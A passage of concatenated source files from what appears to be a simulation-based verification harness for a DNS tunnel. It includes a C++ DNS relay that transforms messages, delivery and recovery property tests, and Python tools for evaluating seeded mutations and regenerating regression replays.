	r.cls(c.check_ip ? "source-check-on" : "source-check-off");
	return r;
}

} // namespace c05
