// relay.h -- a DNS relay actor between the real client and the real server: parses and rebuilds every message with the
// reference DNS implementation (as a recursive resolver does) and applies a fixed transformation: letter case, bytes >= 0x80,
// '+' / '_' mangling (separately for query names and for names / text in answers), allowed record types, answer size limit,
// EDNS0 honoured or not, refusal by SERVFAIL or silence, DNS ids kept or rewritten.  Used by C11 (the family of the property)
// and by the C01 runs (id-rewriting and case-randomising relays).
#pragma once
#include "sim/harness.h"
#include "sim/scenario.h"
#include <algorithm>
#include <map>

namespace rly {
using namespace hz;
using scn::fmt;

struct Side { int kase = 0; /*0 keep 1 lower 2 upper 3 random*/ int hi = 0; /*0 clean 1 strip 2 reject*/ bool plus = false, under = false; };
struct Profile {
	Side q, a;
	std::vector<int> types;     // allowed record types (qtype numbers)
	int limit = 0;              // 0 none
	bool edns0 = true;
	bool reject_silent = false;
	bool rewrite_ids = false;
	std::string str() const
	{
		static const char *K[] = {"keep", "lower", "upper", "random"}; static const char *H[] = {"clean", "strip", "reject"};
		std::string t; for (int x : types) t += fmt("%d,", x);
		return fmt("queries{case=%s 8bit=%s +%s _%s} answers{case=%s 8bit=%s +%s _%s} types=[%s] limit=%d edns0=%d refusal=%s ids=%s",
			   K[q.kase], H[q.hi], q.plus ? "mangled" : "ok", q.under ? "mangled" : "ok", K[a.kase], H[a.hi], a.plus ? "mangled" : "ok", a.under ? "mangled" : "ok",
			   t.c_str(), limit, (int)edns0, reject_silent ? "silence" : "SERVFAIL", rewrite_ids ? "rewritten" : "kept");
	}
};

struct Relay {
	Profile p; Tape *t = nullptr;
	sim::Addr front, back, server;
	struct Pend { sim::Addr client; uint16_t id; bool opt; refdns::Question q; };
	std::map<uint16_t, Pend> pend;
	uint16_t next_id = 7000;
	uint32_t rnd = 12345;
	uint64_t n_q = 0, n_refused = 0, n_dropped_size = 0, n_changed = 0;

	// ---- re-delivery (C16, real client): the relay repeats ping / data queries it forwarded recently, as an impatient or
	// load-balanced relay does: same or new DNS id, same or second upstream address, letter case re-randomised when the path
	// randomises case anyway.  Answers to its own repeats are swallowed (only the first answer per forwarded id goes back).
	// Which queries the property allows to be repeated is decided conservatively from what the relay has seen: `age` counts
	// every ping/data answer seen since plus everything still unanswered.
	struct Fwd { uint16_t out_id = 0, qtype = 0; refdns::Name name; bool opt = false, ping = false, answered = false, have_payload = false; uint64_t ans_seq = 0, t_fwd = 0; Bytes payload; int extra_sameid = 0, answers_seen = 0; /* case-changed repeats sent under the same id (each is a new query to the server and will be answered and remembered), answers seen under this id */ };
	struct Red { int of = 0; bool identical = true, expect_same = false, answered = false; };
	bool redeliver = false; uint32_t p_red = 300;
	sim::Addr back2;
	std::vector<Fwd> fwd; std::map<uint16_t, int> fwd_by_id;
	std::map<uint16_t, Red> red;
	uint64_t ans_counter = 0; uint16_t next_red_id = 30000;
	int n_red = 0, n_red_pending = 0, n_red_cache = 0, n_red_qmem = 0, n_red_case = 0, n_red_other = 0, n_red_sameid = 0, n_red_lastfrag = 0, n_cache_same = 0, n_red_answers = 0;
	std::string red_violation;

	static bool is_pingdata(const refdns::Name &n, bool &ping)
	{
		if (n.labels.empty() || n.labels[0].empty()) return false;
		uint8_t c = n.labels[0][0];
		ping = c == 'p' || c == 'P';
		return ping || (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
	}

	void note_forward(uint16_t out_id, const refdns::Question &q, bool opt)
	{
		bool ping;
		if (!redeliver || !is_pingdata(q.name, ping)) return;
		Fwd f; f.out_id = out_id; f.qtype = q.type; f.name = q.name; f.opt = opt; f.ping = ping; f.t_fwd = sim::W.now;
		fwd_by_id[out_id] = (int)fwd.size(); fwd.push_back(f);
		plan();
	}

	// event-level choices come from the relay's own generator (seeded from the case's tape): a tunnel case consumes most of its
	// tape for configuration and offers, and an exhausted tape would mean "never re-deliver"
	uint32_t lbelow(uint32_t n) { return n ? ((rng() << 16) ^ rng()) % n : 0; }
	bool lchance(uint32_t num, uint32_t den) { return lbelow(den) < num; }
	size_t lpick(std::initializer_list<uint32_t> w) { uint32_t tot = 0; for (auto x : w) tot += x; uint32_t v = lbelow(tot); size_t i = 0; for (auto x : w) { if (v < x) return i; v -= x; i++; } return 0; }
	void plan()
	{
		if (!lchance(p_red, 1000)) return;
		uint64_t dt; switch (lpick({4, 3, 2, 1})) { case 0: dt = 0; break; case 1: dt = lbelow(3000); break; case 2: dt = lbelow(300000); break; default: dt = lbelow(3000000); break; }
		if (dt == 0) fire(); else sim::W.after(dt, [this]() { fire(); });
	}

	void fire()
	{
		int inflight = 0;
		for (auto &f : fwd) inflight += std::max(0, 1 + f.extra_sameid - f.answers_seen);
		for (auto &r : red) if (!r.second.identical && !r.second.answered) inflight++;
		std::vector<int> pendv, cache, qd, qp;
		for (int i = (int)fwd.size() - 1; i >= 0; i--) {
			const Fwd &f = fwd[i];
			if (!f.answered) { if ((int)fwd.size() - i <= 3 && sim::W.now - f.t_fwd < 5000000) pendv.push_back(i); continue; }
			int age = (int)(ans_counter - f.ans_seq) + inflight;
			if (age < 4) cache.push_back(i);
			if (f.ping ? age < 30 : age < 15) (f.ping ? qp : qd).push_back(i);
		}
		int window; std::vector<int> *src;
		switch (lpick({4, 3, 3, 3})) { case 0: window = 1; src = &cache; break; case 1: window = 2; src = &qd; break; case 2: window = 2; src = &qp; break; default: window = 3; src = &pendv; break; }
		if (src->empty()) { src = &cache; window = 1; }
		if (src->empty()) { src = &pendv; window = 3; }
		if (src->empty()) return;
		int of = lchance(1, 2) ? src->back() : (*src)[lbelow((uint32_t)src->size())];
		if (window == 2 && std::find(cache.begin(), cache.end(), of) != cache.end()) window = 1;
		const Fwd f = fwd[of];
		refdns::Name name = f.name; bool identical = true;
		if (p.q.kase == 3 && lchance(1, 3)) {
			for (auto &l : name.labels) for (auto &c : l) if (((c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z')) && (rng() & 1)) c ^= 32;
			identical = name.labels == f.name.labels;
			if (!identical) n_red_case++;
		}
		bool newid = lchance(1, 2), other = lchance(1, 3);
		int times = 1 + (int)lpick({6, 2, 1});
		for (int n = 0; n < times; n++) {
			uint16_t id = newid ? next_red_id++ : f.out_id;
			if (newid) { Red r; r.of = of; r.identical = identical; r.expect_same = identical && window == 1 && f.have_payload; red[id] = r; }
			else { n_red_sameid++; if (!identical) fwd[of].extra_sameid++; }
			sim::Datagram o; o.src = other ? back2 : back; o.dst = server;
			o.data = refdns::build_query(id, name.labels, f.qtype, f.opt && p.edns0);
			sim::W.send(o);
			n_red++;
			if (window == 1) n_red_cache++; else if (window == 2) n_red_qmem++; else n_red_pending++;
			if (other) n_red_other++;
			if (getenv("VERIF_TRACE")) fprintf(stderr, "%10.6f relay re-delivers fwd#%d (%s, window %s) id=%u%s%s\n", sim::W.now / 1e6, of, f.ping ? "ping" : "data", window == 1 ? "cache" : (window == 2 ? "qmem" : "pending"), id, other ? " from second address" : "", identical ? "" : " case changed");
		}
	}

	// A repeat with changed letter case that reaches the server while the original is still pending is a new query to the
	// server; its answer may carry a downstream fragment that was never sent before.  The relay drops it like any answer to its
	// own repeats; a single-fragment packet sent that way is not repeated by the server (best effort, C01), so such runs do not
	// judge downstream loss.
	int n_swallowed_data = 0;
	void note_swallowed(const sim::Datagram &dg, int of)
	{
		refproto::Answer a;
		if (!refproto::decode_answer(dg.data, a) || a.payload.size() <= 2) return;
		if (fwd[of].have_payload && fwd[of].payload == a.payload) return;
		n_swallowed_data++;
	}

	// returns true if the answer belongs to a re-delivery (and must be swallowed)
	bool note_answer(const sim::Datagram &dg, const refdns::Msg &m)
	{
		if (!redeliver) return false;
		bool ping;
		if (m.q.size() != 1 || !is_pingdata(m.q[0].name, ping)) return false;
		ans_counter++;
		auto ir = red.find(m.id);
		if (ir != red.end()) {
			Red &r = ir->second; n_red_answers++;
			if (!r.answered && r.expect_same) {
				refproto::Answer a;
				if (refproto::decode_answer(dg.data, a)) {
					if (a.payload == fwd[r.of].payload) n_cache_same++;
					else if (red_violation.empty()) red_violation = fmt("identical repeat (new id %u) of forwarded query #%d, one of the 4 most recently answered, got payload %s; the original answer carried %s", m.id, r.of, hexs(a.payload, 12).c_str(), hexs(fwd[r.of].payload, 12).c_str());
				}
			}
			if (!r.identical) note_swallowed(dg, r.of);
			r.answered = true;
			return true;
		}
		auto it = fwd_by_id.find(m.id);
		if (it == fwd_by_id.end()) return false;
		Fwd &f = fwd[it->second];
		f.answers_seen++;
		if (f.answered) { note_swallowed(dg, it->second); return true; }   // second answer for the same id (a same-id repeat): swallowed
		f.answered = true; f.ans_seq = ans_counter;
		refproto::Answer a;
		if (refproto::decode_answer(dg.data, a)) { f.have_payload = true; f.payload = a.payload; }
		return false;
	}

	uint32_t rng() { rnd = rnd * 1103515245u + 12345u; return rnd >> 16; }   // per-relay LCG seeded from the case (fixed transformation with random case flips)

	// returns false if the message must be refused
	bool xform(Bytes &b, const Side &s)
	{
		for (auto &c : b) {
			uint8_t o = c;
			if (c >= 0x80) { if (s.hi == 2) return false; if (s.hi == 1) c &= 0x7f; }
			if (c == '+' && s.plus) c = ' ';
			if (c == '_' && s.under) c = '-';
			bool up = c >= 'A' && c <= 'Z', lo = c >= 'a' && c <= 'z';
			if (s.kase == 1 && up) c = (uint8_t)(c + 32);
			else if (s.kase == 2 && lo) c = (uint8_t)(c - 32);
			else if (s.kase == 3 && (up || lo) && (rng() & 1)) c = (uint8_t)(c ^ 32);
			if (c != o) n_changed++;
		}
		return true;
	}
	bool xform_name(refdns::Name &n, const Side &s) { for (auto &l : n.labels) if (!xform(l, s)) return false; return true; }

	static void put_name(Bytes &b, const refdns::Name &n) { refdns::put_name(b, n.labels); }

	void refuse(const sim::Datagram &dg, const Bytes &query)
	{
		n_refused++;
		if (p.reject_silent) return;
		sim::Datagram r; r.src = front; r.dst = dg.src; r.data = refdns::build_error_reply(query, 2);
		sim::W.send(r);
	}

	void from_client(const sim::Datagram &dg)
	{
		refdns::Msg m;
		if (!refdns::parse(dg.data, m).empty() || m.qr() || m.q.size() != 1) return;
		n_q++;
		bool opt = false; for (auto &r : m.additional) if (r.type == refdns::T_OPT) opt = true;
		if (std::find(p.types.begin(), p.types.end(), (int)m.q[0].type) == p.types.end()) { refuse(dg, dg.data); return; }
		refdns::Question q = m.q[0];
		if (!xform_name(q.name, p.q)) { refuse(dg, dg.data); return; }
		uint16_t id = p.rewrite_ids ? next_id++ : m.id;
		if (id == 0) id = next_id++;
		pend[id] = Pend{dg.src, m.id, opt, q};
		if (pend.size() > 3000) pend.erase(pend.begin());
		sim::Datagram o; o.src = back; o.dst = server;
		o.data = refdns::build_query(id, q.name.labels, q.type, opt && p.edns0);
		sim::W.send(o);
		note_forward(id, q, opt);
	}

	void from_server(const sim::Datagram &dg)
	{
		refdns::Msg m;
		if (!refdns::parse(dg.data, m).empty() || !m.qr()) return;
		if (note_answer(dg, m)) return;
		auto it = pend.find(m.id);
		if (it == pend.end()) return;
		Pend pe = it->second;
		if (redeliver && !fwd.empty()) plan();
		Bytes b;
		refdns::put16(b, pe.id); refdns::put16(b, (uint16_t)(m.flags | 0x0080));
		refdns::put16(b, 1); refdns::put16(b, (uint16_t)m.answers.size()); refdns::put16(b, 0); refdns::put16(b, 0);
		put_name(b, pe.q.name); refdns::put16(b, pe.q.type); refdns::put16(b, 1);
		for (auto &r : m.answers) {
			refdns::put16(b, 0xC00C); refdns::put16(b, r.type); refdns::put16(b, r.klass); refdns::put32(b, r.ttl);
			Bytes rd;
			switch (r.type) {
			case refdns::T_CNAME: case refdns::T_NS: { refdns::Name n = r.target; if (!xform_name(n, p.a)) { n_refused++; return; } put_name(rd, n); break; }
			case refdns::T_MX: { refdns::Name n = r.target; if (!xform_name(n, p.a)) { n_refused++; return; } refdns::put16(rd, r.pref); put_name(rd, n); break; }
			case refdns::T_SRV: { refdns::Name n = r.target; if (!xform_name(n, p.a)) { n_refused++; return; } refdns::put16(rd, r.pref); refdns::put16(rd, r.weight); refdns::put16(rd, r.port); put_name(rd, n); break; }
			case refdns::T_TXT: for (auto s : r.txt) { if (!xform(s, p.a)) { n_refused++; return; } rd.push_back((uint8_t)s.size()); rd.insert(rd.end(), s.begin(), s.end()); } break;
			default: rd = r.rdata; break;   // opaque data (NULL, PRIVATE, A) passes unchanged
			}
			refdns::put16(b, (uint16_t)rd.size()); b.insert(b.end(), rd.begin(), rd.end());
		}
		size_t limit = p.limit ? (size_t)p.limit : 65535;
		if (!(pe.opt && p.edns0)) limit = std::min<size_t>(limit, 512);
		if (b.size() > limit) { n_dropped_size++; return; }
		sim::Datagram o; o.src = front; o.dst = pe.client; o.data = b;
		sim::W.send(o);
	}

	void attach()
	{
		sim::W.actors[front] = [this](const sim::Datagram &dg) { from_client(dg); };
		sim::W.actors[back] = [this](const sim::Datagram &dg) { from_server(dg); };
		if (redeliver) sim::W.actors[back2] = [this](const sim::Datagram &dg) { from_server(dg); };
	}
};

} // namespace rly
