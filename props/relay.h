// relay.h -- a DNS relay actor between the real client and the real server: parses and rebuilds every message with the
// reference DNS implementation (as a recursive resolver does) and applies a fixed transformation: letter case, bytes >= 0x80,
// '+' / '_' mangling (separately for query names and for names / text in answers), allowed record types, answer size limit,
// EDNS0 honoured or not, refusal by SERVFAIL or silence, DNS ids kept or rewritten.  Used by C11 (the family of the property)
// and by the C01 runs (id-rewriting and case-randomising relays).
#pragma once
#include "sim/harness.h"
#include "sim/scenario.h"
#include <algorithm>
#include <map>

namespace rly {
using namespace hz;
using scn::fmt;

struct Side { int kase = 0; /*0 keep 1 lower 2 upper 3 random*/ int hi = 0; /*0 clean 1 strip 2 reject*/ bool plus = false, under = false; };
struct Profile {
	Side q, a;
	std::vector<int> types;     // allowed record types (qtype numbers)
	int limit = 0;              // 0 none
	bool edns0 = true;
	bool reject_silent = false;
	bool rewrite_ids = false;
	std::string str() const
	{
		static const char *K[] = {"keep", "lower", "upper", "random"}; static const char *H[] = {"clean", "strip", "reject"};
		std::string t; for (int x : types) t += fmt("%d,", x);
		return fmt("queries{case=%s 8bit=%s +%s _%s} answers{case=%s 8bit=%s +%s _%s} types=[%s] limit=%d edns0=%d refusal=%s ids=%s",
			   K[q.kase], H[q.hi], q.plus ? "mangled" : "ok", q.under ? "mangled" : "ok", K[a.kase], H[a.hi], a.plus ? "mangled" : "ok", a.under ? "mangled" : "ok",
			   t.c_str(), limit, (int)edns0, reject_silent ? "silence" : "SERVFAIL", rewrite_ids ? "rewritten" : "kept");
	}
};

struct Relay {
	Profile p; Tape *t = nullptr;
	sim::Addr front, back, server;
	struct Pend { sim::Addr client; uint16_t id; bool opt; refdns::Question q; };
	std::map<uint16_t, Pend> pend;
	uint16_t next_id = 7000;
	uint32_t rnd = 12345;
	uint64_t n_q = 0, n_refused = 0, n_dropped_size = 0, n_changed = 0;

	uint32_t rng() { rnd = rnd * 1103515245u + 12345u; return rnd >> 16; }   // per-relay LCG seeded from the case (fixed transformation with random case flips)

	// returns false if the message must be refused
	bool xform(Bytes &b, const Side &s)
	{
		for (auto &c : b) {
			uint8_t o = c;
			if (c >= 0x80) { if (s.hi == 2) return false; if (s.hi == 1) c &= 0x7f; }
			if (c == '+' && s.plus) c = ' ';
			if (c == '_' && s.under) c = '-';
			bool up = c >= 'A' && c <= 'Z', lo = c >= 'a' && c <= 'z';
			if (s.kase == 1 && up) c = (uint8_t)(c + 32);
			else if (s.kase == 2 && lo) c = (uint8_t)(c - 32);
			else if (s.kase == 3 && (up || lo) && (rng() & 1)) c = (uint8_t)(c ^ 32);
			if (c != o) n_changed++;
		}
		return true;
	}
	bool xform_name(refdns::Name &n, const Side &s) { for (auto &l : n.labels) if (!xform(l, s)) return false; return true; }

	static void put_name(Bytes &b, const refdns::Name &n) { refdns::put_name(b, n.labels); }

	void refuse(const sim::Datagram &dg, const Bytes &query)
	{
		n_refused++;
		if (p.reject_silent) return;
		sim::Datagram r; r.src = front; r.dst = dg.src; r.data = refdns::build_error_reply(query, 2);
		sim::W.send(r);
	}

	void from_client(const sim::Datagram &dg)
	{
		refdns::Msg m;
		if (!refdns::parse(dg.data, m).empty() || m.qr() || m.q.size() != 1) return;
		n_q++;
		bool opt = false; for (auto &r : m.additional) if (r.type == refdns::T_OPT) opt = true;
		if (std::find(p.types.begin(), p.types.end(), (int)m.q[0].type) == p.types.end()) { refuse(dg, dg.data); return; }
		refdns::Question q = m.q[0];
		if (!xform_name(q.name, p.q)) { refuse(dg, dg.data); return; }
		uint16_t id = p.rewrite_ids ? next_id++ : m.id;
		if (id == 0) id = next_id++;
		pend[id] = Pend{dg.src, m.id, opt, q};
		if (pend.size() > 3000) pend.erase(pend.begin());
		sim::Datagram o; o.src = back; o.dst = server;
		o.data = refdns::build_query(id, q.name.labels, q.type, opt && p.edns0);
		sim::W.send(o);
	}

	void from_server(const sim::Datagram &dg)
	{
		refdns::Msg m;
		if (!refdns::parse(dg.data, m).empty() || !m.qr()) return;
		auto it = pend.find(m.id);
		if (it == pend.end()) return;
		Pend pe = it->second;
		Bytes b;
		refdns::put16(b, pe.id); refdns::put16(b, (uint16_t)(m.flags | 0x0080));
		refdns::put16(b, 1); refdns::put16(b, (uint16_t)m.answers.size()); refdns::put16(b, 0); refdns::put16(b, 0);
		put_name(b, pe.q.name); refdns::put16(b, pe.q.type); refdns::put16(b, 1);
		for (auto &r : m.answers) {
			refdns::put16(b, 0xC00C); refdns::put16(b, r.type); refdns::put16(b, r.klass); refdns::put32(b, r.ttl);
			Bytes rd;
			switch (r.type) {
			case refdns::T_CNAME: case refdns::T_NS: { refdns::Name n = r.target; if (!xform_name(n, p.a)) { n_refused++; return; } put_name(rd, n); break; }
			case refdns::T_MX: { refdns::Name n = r.target; if (!xform_name(n, p.a)) { n_refused++; return; } refdns::put16(rd, r.pref); put_name(rd, n); break; }
			case refdns::T_SRV: { refdns::Name n = r.target; if (!xform_name(n, p.a)) { n_refused++; return; } refdns::put16(rd, r.pref); refdns::put16(rd, r.weight); refdns::put16(rd, r.port); put_name(rd, n); break; }
			case refdns::T_TXT: for (auto s : r.txt) { if (!xform(s, p.a)) { n_refused++; return; } rd.push_back((uint8_t)s.size()); rd.insert(rd.end(), s.begin(), s.end()); } break;
			default: rd = r.rdata; break;   // opaque data (NULL, PRIVATE, A) passes unchanged
			}
			refdns::put16(b, (uint16_t)rd.size()); b.insert(b.end(), rd.begin(), rd.end());
		}
		size_t limit = p.limit ? (size_t)p.limit : 65535;
		if (!(pe.opt && p.edns0)) limit = std::min<size_t>(limit, 512);
		if (b.size() > limit) { n_dropped_size++; return; }
		sim::Datagram o; o.src = front; o.dst = pe.client; o.data = b;
		sim::W.send(o);
	}

	void attach()
	{
		sim::W.actors[front] = [this](const sim::Datagram &dg) { from_client(dg); };
		sim::W.actors[back] = [this](const sim::Datagram &dg) { from_server(dg); };
	}
};

} // namespace rly
