// C02 -- progress on a clean path (exactly once, in order, bounded latency) and recovery after faults.
#include "tunnel_common.h"
#include "advnet_case.h"
using namespace hz;

static CaseResult run_case(Tape &t)
{
	// one case in twelve: the adversarial-network histories of C01's third shape (sequence-number wrap downstream, merge variant),
	// followed by a clean path on which delivery has to resume
	if (t.chance(1, 12)) { CaseResult a = advnet::downwrap_case(t, true); a.cls("mode:adversarial-history+clean-suffix"); return a; }
	CaseResult r;
	tun::Run R;
	tun::Mode m = t.chance(1, 2) ? tun::RECOVER : tun::CLEAN;
	tun::run_tunnel(t, m, R);
	r.render = std::string(m == tun::CLEAN ? "clean: " : "fault-prefix+clean-suffix: ") + R.render;
	r.classes = R.classes;
	r.cls(m == tun::CLEAN ? "mode:clean" : "mode:recover");
	if (sim::W.livelock) r.fail("C02:livelock", "simulation did not make progress in virtual time");
	if (!R.up) r.fail("C02:handshake", "handshake did not complete on a clean path: " + R.render + "\n" + R.client_log.substr(R.client_log.size() > 1500 ? R.client_log.size() - 1500 : 0));
	if (R.v.failed("C02")) r.fail(R.v.first["C02"].sig, R.v.first["C02"].why + "\n" + r.render);
	if (m == tun::CLEAN) r.nontrivial = R.up && R.multi_frag_delivered >= 1 && R.idle_gap;
	else r.nontrivial = R.up && (R.fn.n_drop + R.fn.n_dup + R.fn.n_delay) > 0 && R.delivered >= 6;
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C02"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
