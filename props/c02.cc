// C02 -- progress on a clean path (exactly once, in order, bounded latency) and recovery after faults.
#include "tunnel_common.h"
#include "session_common.h"
#include "advnet_case.h"
using namespace hz;

// Scripted conforming sender against the real server (the history generator of C01's second shape).  What is judged here is delivery:
// a packet whose first fragment made the server start over (it held the first fragment of a packet the sender had given up, under the
// same 3-bit sequence number) and whose fragments then all arrive, in order, on a path that behaves, has to be written to the server's
// tun device.  The trouble (lost acknowledgements, seven packets lost entirely) lies before the packet is offered.
static CaseResult restart_case(Tape &t)
{
	CaseResult r;
	ses::Profile P;
	P.w_ping = 5; P.w_up = 9; P.w_offer = 2; P.w_adv = 2; P.w_nreq = 0; P.w_redeliver = 2; P.w_freeze = 1;
	P.max_sessions = 1; P.max_body = 600; P.max_actions = 80; P.wrap_games = true;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = "scripted sender, packet offered after the trouble: " + R.render;
	r.cls("mode:scripted-sender-restart");
	if (sim::W.livelock) r.fail("C02:livelock", "simulation did not make progress");
	if (!R.up) return r;
	std::vector<mon::TunEv> wr = R.tm.writes_of(R.s->srv->idx);
	for (auto &pkt : R.must_deliver) {
		bool found = false;
		for (auto &w : wr) if (w.data == pkt) found = true;
		if (!found) { r.fail("C02:lost-upstream-after-restart", scn::fmt("a %zu-byte packet sent completely on a clean path (the server had acknowledged its first fragment, which replaced the first fragment of a packet given up earlier) never reached the server's tun device: %s", pkt.size(), hexs(pkt, 32).c_str()) + "\n" + r.render); break; }
	}
	r.nontrivial = !R.must_deliver.empty();
	if (r.nontrivial) r.cls("restart-after-abandoned-first-fragment");
	return r;
}

static CaseResult run_case(Tape &t)
{
	// one case in twelve: the adversarial-network histories of C01's third shape (sequence-number wrap downstream, merge variant),
	// followed by a clean path on which delivery has to resume
	const char *shape = getenv("VERIF_C02_SHAPE");   // development aid: s forces the scripted-sender shape (the draws still happen)
	bool adv = t.chance(1, 12);
	if (adv || (shape && *shape == 's')) { if (t.chance(1, 2) || (shape && *shape == 's')) return restart_case(t); CaseResult a = advnet::downwrap_case(t, true); a.cls("mode:adversarial-history+clean-suffix"); return a; }
	CaseResult r;
	tun::Run R;
	tun::Mode m = t.chance(1, 2) ? tun::RECOVER : tun::CLEAN;
	tun::run_tunnel(t, m, R);
	r.render = std::string(m == tun::CLEAN ? "clean: " : "fault-prefix+clean-suffix: ") + R.render;
	r.classes = R.classes;
	r.cls(m == tun::CLEAN ? "mode:clean" : "mode:recover");
	if (sim::W.livelock) r.fail("C02:livelock", "simulation did not make progress in virtual time");
	if (!R.up) r.fail("C02:handshake", "handshake did not complete on a clean path: " + R.render + "\n" + R.client_log.substr(R.client_log.size() > 1500 ? R.client_log.size() - 1500 : 0));
	if (R.v.failed("C02")) r.fail(R.v.first["C02"].sig, R.v.first["C02"].why + "\n" + r.render);
	if (m == tun::CLEAN) r.nontrivial = R.up && R.multi_frag_delivered >= 1 && R.idle_gap;
	else r.nontrivial = R.up && (R.fn.n_drop + R.fn.n_dup + R.fn.n_delay) > 0 && R.delivered >= 6;
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C02"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
