#!/usr/bin/env python3
"""seedtool.py -- confirm and evaluate a seeded change produced by an independent sub-agent.

   ./seedtool.py <dir-with-patch.diff+demo.sh> <name> <PROP> [<PROP>...] [--tier quick] [--seeds 1,2] [--keep]

1. clones /repo into a scratch tree outside /repo and /verif, applies patch.diff;
2. confirms: it compiles, `make test` passes (71/71), demo.sh fails on the changed tree and passes on a clean clone;
3. runs the listed checks against the changed tree (VERIF_REPO) for the given seeds;
4. with --keep copies patch.diff, the demonstration and meta.json to /verif/seeded/<name>/.
Scratch trees are removed at the end.
"""
import sys, os, subprocess, shutil, tempfile, time, json, glob

VERIF = os.path.dirname(os.path.abspath(__file__))


def run(cmd, **kw):
    return subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, errors='replace', **kw)


def main():
    a = sys.argv[1:]
    src = os.path.abspath(a[0]); name = a[1]
    rest = a[2:]
    tier = 'quick'; seeds = [1]; keep = '--keep' in rest
    props = []
    i = 0
    while i < len(rest):
        if rest[i] == '--tier': tier = rest[i + 1]; i += 2
        elif rest[i] == '--seeds': seeds = [int(x) for x in rest[i + 1].split(',')]; i += 2
        elif rest[i] == '--keep': i += 1
        else: props.append(rest[i]); i += 1
    patch = os.path.join(src, 'patch.diff')
    scratch = tempfile.mkdtemp(prefix='iodine-seed.', dir='/var/tmp')
    out = tempfile.mkdtemp(prefix='iodine-seed-out.', dir='/var/tmp')
    meta = {'name': name, 'breaks': props[0] if props else None, 'checked_with': props, 'tier': tier, 'seeds': seeds}
    try:
        mut = os.path.join(scratch, 'mut'); clean = os.path.join(scratch, 'clean')
        run(['git', 'clone', '-q', '/repo', mut]); run(['git', 'clone', '-q', '/repo', clean])
        r = run(['git', '-C', mut, 'apply', patch])
        if r.returncode != 0:
            print('PATCH-FAILED', r.stdout); return 2
        r = run(['make', '-C', mut, 'test'])
        ok = r.returncode == 0 and '100%: Checks: 71, Failures: 0, Errors: 0' in r.stdout
        meta['unit_suite_passes_with_change'] = ok
        print('unit suite with change:', 'PASS' if ok else 'FAIL')
        if not ok:
            print(r.stdout[-1200:]); return 3
        run(['make', '-C', clean])   # some demonstrations need generated sources (base64u.c)
        demo = os.path.join(src, 'demo.sh')
        if os.path.exists(demo):
            r1 = run(['sh', demo, mut], cwd=src)
            r2 = run(['sh', demo, clean], cwd=src)
            meta['demo_fails_with_change'] = r1.returncode != 0
            meta['demo_passes_without'] = r2.returncode == 0
            meta['demo_output_with_change'] = r1.stdout[-600:]
            print('demo on changed tree: exit %d; on clean tree: exit %d' % (r1.returncode, r2.returncode))
            if r1.returncode == 0 or r2.returncode != 0:
                print(r1.stdout[-800:]); print(r2.stdout[-800:])
        run(['make', '-C', mut, 'clean']); run(['make', '-C', clean, 'clean'])
        env = dict(os.environ, VERIF_REPO=mut, VERIF_OUT=out)
        results = {}
        for pid in props:
            for sd in seeds:
                t0 = time.time()
                env['VERIF_SEED'] = str(sd)
                r = run([os.path.join(VERIF, 'check'), pid, '--tier', tier], env=env)
                line = [l for l in r.stdout.splitlines() if l.startswith(('VIOLATION', 'OK', 'CHECK-', 'KNOWN'))]
                print('%s seed=%d exit=%d %.0fs %s' % (pid, sd, r.returncode, time.time() - t0, ' | '.join(line)[:500]))
                line.sort(key=lambda l: not l.startswith('VIOLATION'))   # violations first: the pinned KNOWN-FINDING lines of C01 / C11 would crowd them out
                results.setdefault(pid, []).append({'seed': sd, 'exit': r.returncode, 'wall_s': round(time.time() - t0), 'lines': line[:3]})
        meta['results'] = results
        for pid, v in results.items():
            verdict = 'DETECTED' if all(x['exit'] == 1 for x in v) else ('PARTIAL' if any(x['exit'] == 1 for x in v) else 'MISSED')
            meta.setdefault('verdict', {})[pid] = verdict
            print('RESULT %s %s %s' % (name, pid, verdict))
        if keep:
            dst = os.path.join(VERIF, 'seeded', name)
            os.makedirs(dst, exist_ok=True)
            for f in glob.glob(os.path.join(src, '*')):
                if os.path.isfile(f) and os.path.getsize(f) < 200000:
                    shutil.copy(f, dst)
            notes = os.path.join(src, 'notes.md')
            meta['needs_to_manifest'] = open(notes).read()[:1500] if os.path.exists(notes) else ''
            meta['what_was_run'] = 'seedtool.py: git clone /repo -> scratch; git apply patch.diff; make test; demo.sh <changed> / <clean>; ./check <prop> --tier %s with VERIF_REPO=<changed> for seeds %s' % (tier, seeds)
            json.dump(meta, open(os.path.join(dst, 'meta.json'), 'w'), indent=1)
        return 0
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
        shutil.rmtree(out, ignore_errors=True)


if __name__ == '__main__':
    sys.exit(main())
