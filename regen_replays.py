#!/usr/bin/env python3
"""regen_replays.py -- re-create the pinned replay files of *fixed* findings after a generator change.

A replay file is a choice tape; its meaning depends on the generator that decodes it, so when a generator is
extended the pinned regression cases have to be found again.  For every fixed finding in known_findings.json that
names a replay, this tool builds a scratch tree (outside /repo and /verif) -- the current tree with only that fix reverted
(mutants/<PROP>-revert-<commit>.patch) when such a patch exists and applies, else the parent of the fix commit --,
runs the property's quick check against it, and stores the shrunk failing tape with the recorded signature under
the pinned name.  It then verifies: the replay fails on the pre-fix tree and passes on /repo.

   ./regen_replays.py [PROP ...]

Not covered: a second pinned replay of the same fix (replays/C19/raw-login-challenge-minus-1-overflows.tape).  The replay
tier reports the first pinned case that fails, so the search for the second signature never starts; re-derive it with
`VERIF_REPO=<pre-fix tree> ./trial.sh c19 C19 <seed> 60000 100` for a few seeds until the log shows "- 1 cannot be
represented" and copy that worker's last_case.tape.
"""
import json, os, subprocess, sys, shutil, tempfile, glob

VERIF = os.path.dirname(os.path.abspath(__file__))


def run(cmd, **kw):
    return subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, errors='replace', **kw)


def main():
    only = set(sys.argv[1:])
    kf = json.load(open(os.path.join(VERIF, 'known_findings.json')))['findings']
    for k in kf:
        if k.get('status') != 'fixed' or not k.get('replay') or (only and k['property'] not in only):
            continue
        pid, commit, sig, dst = k['property'], k['commit'], k['signature'], os.path.join(VERIF, k['replay'])
